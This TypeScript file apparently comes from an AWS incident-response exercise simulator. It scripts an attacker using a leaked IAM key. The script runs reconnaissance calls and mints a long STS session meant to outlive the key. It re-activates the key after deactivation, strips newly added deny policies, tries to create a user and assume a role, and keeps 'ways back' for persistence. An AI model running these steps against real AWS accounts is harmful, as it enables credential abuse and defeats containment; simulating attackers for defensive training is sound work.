import { DescribeTrailsCommand } from '@aws-sdk/client-cloudtrail';
import {
  CreateUserCommand,
  DeleteUserPolicyCommand,
  GetUserCommand,
  ListAccessKeysCommand,
  ListAttachedUserPoliciesCommand,
  ListGroupsForUserCommand,
  ListUserPoliciesCommand,
  ListUsersCommand,
  UpdateAccessKeyCommand,
} from '@aws-sdk/client-iam';
import { AssumeRoleCommand, GetCallerIdentityCommand, GetSessionTokenCommand } from '@aws-sdk/client-sts';
import type { Scenario } from '../scenario/schema.js';
import type { ActorClients, SdkCredentials } from './clients.js';
import { makeWaysBack, tryWaysBack, type WaysBack } from './ways-back.js';
import type { Script, Stage } from './stage.js';

/** What the opportunist starts from. */
export interface OpportunistDeps {
  readonly plan: Scenario['cast']['opportunist'];
  readonly accountId: string;
  readonly leakedKeyId: string;
  readonly withKey: ActorClients;
  readonly clientsFor: (credentials: SdkCredentials) => ActorClients;
  /** Clients of his own account. */
  readonly fromOutside: ActorClients;
}

/** The longest session there is: it outlives the key (STS API reference). */
const SESSION_SECONDS = 129_600;

/** What it has learned and done so far. */
type Opportunist = OpportunistDeps & {
  readonly known: { policies?: readonly string[]; session?: ActorClients; waysBack?: WaysBack };
  readonly done: { reactivated: boolean; stripped: boolean; triedUser: boolean };
};

/**
 * An attacker of average skill: looks around, mints a session, watches its own user, and answers the first containment once,
 * while the old policies are still enforced: re-activates the key, strips the inline deny. Afterwards it tries for a new user and keeps trying.
 * When the scenario says so, it makes itself ways back first, and uses them once the leaked user is contained.
 */
export function opportunist(deps: OpportunistDeps): Script {
  const me: Opportunist = { ...deps, known: {}, done: { reactivated: false, stripped: false, triedUser: false } };
  return async (stage) => {
    await stage.pause(deps.plan.startAfterSeconds);
    if (stage.isStopped()) return;
    await lookAround(me, stage);
    await mintSession(me, stage);
    if (me.plan.attackerMakes) me.known.waysBack = await makeWaysBack(me, stage);
    let isLockedOut = false;
    for (let round = 0; !stage.isStopped(); round += 1) {
      if (!isLockedOut && !(await watchItself(me, stage))) {
        isLockedOut = true;
        stage.say('is refused its own reads: somebody is containing it');
      }
      if (isLockedOut) await keepTrying(me, stage);
      else if (round % 5 === 0) await workWithSession(me, stage);
      await stage.pause(isLockedOut ? deps.plan.everySeconds : deps.plan.pollSeconds);
    }
  };
}

async function lookAround(me: Opportunist, stage: Stage): Promise<void> {
  const { iam, sts } = me.withKey;
  const identity = await stage.attempt(sts.send(new GetCallerIdentityCommand({})));
  stage.say(
    identity.allowed ? `has the key ${me.leakedKeyId} and is ${identity.answer.Arn ?? ''}` : `cannot use the key: ${identity.errorCode}`,
  );
  await stage.attempt(iam.send(new ListUsersCommand({})));
  await stage.attempt(iam.send(new GetUserCommand({})));
  await stage.attempt(iam.send(new ListAttachedUserPoliciesCommand({ UserName: me.plan.user })));
  await stage.attempt(iam.send(new ListGroupsForUserCommand({ UserName: me.plan.user })));
  stage.say('has listed users, policies and groups');
}

async function mintSession(me: Opportunist, stage: Stage): Promise<void> {
  const minted = await stage.attempt(me.withKey.sts.send(new GetSessionTokenCommand({ DurationSeconds: SESSION_SECONDS })));
  const credentials = minted.allowed ? minted.answer.Credentials : undefined;
  if (credentials?.AccessKeyId === undefined || credentials.SecretAccessKey === undefined || credentials.SessionToken === undefined) return;
  me.known.session = me.clientsFor({
    accessKeyId: credentials.AccessKeyId,
    secretAccessKey: credentials.SecretAccessKey,
    sessionToken: credentials.SessionToken,
  });
  await stage.attempt(me.known.session.sts.send(new GetCallerIdentityCommand({})));
  stage.say(`has minted the session ${credentials.AccessKeyId}, good for 36 hours`);
}

/** @returns false once its own reads are refused: it is locked out */
async function watchItself(me: Opportunist, stage: Stage): Promise<boolean> {
  const { iam } = me.withKey;
  const policies = await stage.attempt(iam.send(new ListUserPoliciesCommand({ UserName: me.plan.user })));
  const keys = await stage.attempt(iam.send(new ListAccessKeysCommand({ UserName: me.plan.user })));
  if (!policies.allowed || !keys.allowed) return false;
  const names = policies.answer.PolicyNames ?? [];
  me.known.policies ??= names;
  const added = names.find((name) => me.known.policies?.includes(name) === false);
  const isInactive =
    keys.answer.AccessKeyMetadata?.some(({ AccessKeyId, Status }) => AccessKeyId === me.leakedKeyId && Status === 'Inactive') === true;
  if (isInactive && !me.done.reactivated)
    me.done.reactivated = await say(
      stage,
      're-activates the key',
      iam.send(new UpdateAccessKeyCommand({ UserName: me.plan.user, AccessKeyId: me.leakedKeyId, Status: 'Active' })),
    );
  if (added !== undefined && !me.done.stripped)
    me.done.stripped = await say(
      stage,
      `strips the inline policy ${added}`,
      iam.send(new DeleteUserPolicyCommand({ UserName: me.plan.user, PolicyName: added })),
    );
  return true;
}

async function keepTrying(me: Opportunist, stage: Stage): Promise<void> {
  const { wantedUser, wantedRole } = me.plan;
  if (me.done.triedUser) await stage.attempt(me.withKey.iam.send(new ListUsersCommand({})));
  else await tryNewUser(me, stage, wantedUser);
  await workWithSession(me, stage);
  if (me.known.waysBack !== undefined) await tryWaysBack(me.known.waysBack, stage);
  const RoleArn = `arn:aws:iam::${me.accountId}:role/${wantedRole}`;
  await stage.attempt((me.known.session ?? me.withKey).sts.send(new AssumeRoleCommand({ RoleArn, RoleSessionName: 'support' })));
}

/** An inactive key says nothing about rights: it tries again until the key, which it has re-activated, is heard. */
async function tryNewUser(me: Opportunist, stage: Stage, UserName: string): Promise<void> {
  const attempt = await stage.attempt(me.withKey.iam.send(new CreateUserCommand({ UserName })));
  me.done.triedUser = attempt.allowed || attempt.errorCode !== 'InvalidClientTokenId';
  if (me.done.triedUser) stage.say(`tries to create the user ${UserName}: ${attempt.allowed ? 'done' : `refused (${attempt.errorCode})`}`);
}

async function workWithSession(me: Opportunist, stage: Stage): Promise<void> {
  if (me.known.session !== undefined) await stage.attempt(me.known.session.cloudtrail.send(new DescribeTrailsCommand({})));
}

async function say(stage: Stage, text: string, call: Promise<unknown>): Promise<boolean> {
  const { allowed, ...rest } = await stage.attempt(call);
  stage.say(allowed ? text : `${text}: refused${'errorCode' in rest ? ` (${rest.errorCode})` : ''}`);
  return allowed;
}
